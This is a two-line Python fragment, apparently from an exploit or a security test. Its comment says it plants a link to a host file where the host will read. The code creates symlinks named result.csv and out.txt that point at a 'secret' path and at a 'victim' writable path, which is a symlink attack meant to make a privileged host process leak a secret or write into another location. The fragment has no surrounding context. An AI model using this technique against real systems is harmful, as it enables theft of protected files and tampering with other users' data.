# Leaves a link to the host's file where the host will read.
os.symlink(stage["secret"], "result.csv"); os.symlink(stage["victim"] + "/writable", "out.txt")
